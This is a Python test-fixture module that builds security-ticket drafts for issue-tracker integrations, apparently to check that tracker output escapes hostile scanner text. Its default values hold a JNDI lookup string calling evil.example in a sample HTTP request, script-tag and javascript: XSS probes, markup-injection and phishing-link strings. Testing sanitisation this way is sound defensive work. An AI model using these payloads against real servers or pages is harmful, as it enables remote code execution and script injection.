"""IssueDraft builders for tracker tests. The defaults carry hostile, markup-laden scan text."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any

from integrations.trackers import (
    IssueDraft,
    KevNote,
    Occurrence,
    idempotency_label,
    linear_issue_uuid,
)

__all__ = ["HOSTILE_DESCRIPTION", "HOSTILE_EVIDENCE", "HOSTILE_TITLE", "make_draft"]

HOSTILE_TITLE = "Apache Struts RCE {color:red}*pwn*{color}\n[click|https://evil.example] !x.png!"
HOSTILE_DESCRIPTION = (
    "Remote code execution via OGNL.\n\n"
    "{code}injected{code} [~accountid:123] <script>alert(1)</script> "
    "[phish](https://evil.example) ![img](https://evil.example/x.png) @channel # Heading"
)
HOSTILE_EVIDENCE = (
    "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\nHost: app.example.com\n"
    "Authorization: [REDACTED]\n```\n{noformat}\n```` fence-breaker"
)


def make_draft(ticket_id: int = 17, **overrides: Any) -> IssueDraft:
    seen = datetime(2025, 1, 6, 9, 30, tzinfo=UTC)
    values: dict[str, Any] = {
        "ticket_id": ticket_id,
        "idempotency_label": idempotency_label(ticket_id),
        "linear_id": linear_issue_uuid(ticket_id),
        "title": HOSTILE_TITLE,
        "severity": "critical",
        "reported_severity": "high",
        "due_date": date(2025, 2, 5),
        "asset": "https://app.example.com:443",
        "template_id": "CVE-2017-5638",
        "cve_ids": ("CVE-2017-5638",),
        "cwe_ids": ("CWE-20",),
        "kev": KevNote(
            catalog_version="2025.01.03",
            date_added=date(2021, 11, 3),
            due_date=date(2022, 5, 3),
            known_ransomware=True,
        ),
        "policy_name": "nist-800-40r4",
        "sla_days": 30,
        "occurrences": (Occurrence("https://app.example.com/struts2-showcase/", seen, seen),),
        "evidence": HOSTILE_EVIDENCE,
        "references": ("https://nvd.nist.gov/vuln/detail/CVE-2017-5638", "javascript:alert(1)"),
        "description": HOSTILE_DESCRIPTION,
        "labels": ("team payments",),
        "assignee_email": "alice@example.com",
        "priority_overrides": {},
        "custom_fields": {"customfield_10050": "CC7.2"},
    }
    values.update(overrides)
    return IssueDraft(**values)
